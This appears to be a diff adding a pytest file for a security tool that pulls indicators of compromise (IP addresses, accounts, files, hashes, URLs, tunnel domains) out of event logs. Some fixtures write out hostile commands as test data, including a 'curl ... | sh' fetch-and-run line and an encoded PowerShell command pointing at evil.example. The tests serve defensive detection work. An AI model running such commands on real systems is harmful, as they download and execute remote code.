@@ -1,0 +1,105 @@
+"""Indicators are what did something hostile, and nothing else."""
+
+import pytest
+
+from moewarden.graphs.episodes.fold import fold_episodes
+from moewarden.graphs.report.indicators import indicators, shared_parents
+
+from ..stores import at, make_hit, make_store
+
+TIME = at("2026-11-21 03:00:00")
+
+
+@pytest.fixture
+def find(tmp_path):
+    """(type, value) of the indicators where every event of the signal is a cited line."""
+    stores = []
+
+    def run(events, *, alerted=(), level="high", traits=(), flagged=None):
+        stores.append(make_store(tmp_path / str(len(stores)), [{"time": TIME, **event} for event in events]))
+        hit = make_hit(flagged or list(range(1, len(events) + 1)), level=level, traits=list(traits))
+        episodes = fold_episodes(stores[-1], [hit], {"events": []})
+        judgements = {e["id"]: {"lines": [(event, "why", 1.0) for event in e["events"]]} for e in episodes}
+        found = indicators(stores[-1], episodes, judgements, {"s1": hit}, list(alerted))
+        return [(kind, value) for kind, value, _, _ in found]
+
+    yield run
+    for store in stores:
+        store.close()
+
+
+def test_the_source_of_an_attack(find):
+    login = {"action": "login", "outcome": "failure", "src_ip": "203.0.113.9", "user": "root", "host": "web-1"}
+    assert find([login], traits=["brute_force"]) == [("ip", "203.0.113.9")]
+
+
+def test_an_internal_source_too(find):
+    login = {"action": "login", "outcome": "failure", "src_ip": "10.0.0.7", "user": "root", "host": "web-1"}
+    assert find([login], traits=["brute_force"]) == [("ip", "10.0.0.7")]
+
+
+@pytest.mark.parametrize("address", ["127.0.0.1", "::1", "0.0.0.0", "not an address"])
+def test_what_is_nobodys_address_is_none(find, address):
+    assert find([{"action": "login", "src_ip": address, "host": "web-1"}]) == []
+
+
+def test_the_far_end_of_a_hostile_connection(find):
+    connect = {"action": "network_connect", "src_ip": "10.0.0.7", "dst_ip": "203.0.113.9", "host": "pc-1"}
+    assert ("ip", "203.0.113.9") in find([connect], traits=["c2_pattern"])
+    assert ("ip", "10.0.0.7") not in find([connect], traits=["c2_pattern"])
+
+
+def test_an_account_made_in_the_incident(find):
+    made = {"action": "account_create", "target": "eve", "host": "web-1", "product": "linux", "user": "root"}
+    assert find([made]) == [("user", "eve")]
+    assert find([made], alerted=["eve"]) == [("user", "eve")]
+
+
+def test_the_alerts_own_account_is_none(find):
+    act = {"action": "permission_grant", "product": "aws", "user": "inga", "src_ip": "203.0.113.9"}
+    assert ("user", "inga") in find([act])
+    assert ("user", "inga") not in find([act], alerted=["inga"])
+
+
+def test_what_was_left_behind(find):
+    sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
+    events = [
+        {"action": "file_write", "target": "/var/www/x.php", "host": "web-1", "product": "linux"},
+        {
+            "action": "process_start",
+            "process": "C:\\Users\\inga\\x.exe",
+            "host": "pc-1",
+            "product": "windows",
+            "fields": {"Hashes": f"SHA256={sha256}"},
+        },
+        {"action": "process_start", "process": "C:\\Windows\\System32\\cmd.exe", "host": "pc-1", "product": "windows"},
+    ]
+    found = find(events, traits=["persistence"])
+    assert {("file", "/var/www/x.php"), ("file", "C:\\Users\\inga\\x.exe"), ("hash", sha256)} <= set(found)
+    assert not any("cmd.exe" in value for _, value in found)
+
+
+def test_weak_signals_leave_no_files(find):
+    write = {"action": "file_write", "target": "/var/www/x.php", "host": "web-1", "product": "linux"}
+    assert find([write], level="low") == []
+
+
+def test_addresses_in_a_command_encoded_ones_too(find):
+    encoded = "cwBlAHQAIAB4ACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAvAHAA"  # set x http://evil.example/p
+    run = {"action": "process_start", "host": "pc-1", "product": "windows", "process": "C:\\Windows\\x.exe"}
+    assert ("url", "http://203.0.113.9/x.sh") in find([{"command": "curl http://203.0.113.9/x.sh | sh", **run}])
+    assert ("domain", "evil.example") in find([{"command": f"powershell -enc {encoded}", **run}])
+
+
+def test_names_of_a_tunnel_become_their_parent(find):
+    queries = [
+        {"action": "dns_query", "target": f"x{n}.t.evil.example.", "src_ip": "10.0.0.7", "host": "pc-1"}
+        for n in range(5)
+    ]
+    assert find(queries, traits=["tunnel"]) == [("domain", "t.evil.example")]
+    assert shared_parents(["a.b.example", "c.example"]) == {}
+
+
+def test_there_are_not_too_many(find):
+    logins = [{"action": "login", "src_ip": f"203.0.113.{n}", "host": "web-1"} for n in range(1, 60)]
+    assert len(find(logins, traits=["spray"])) == 20
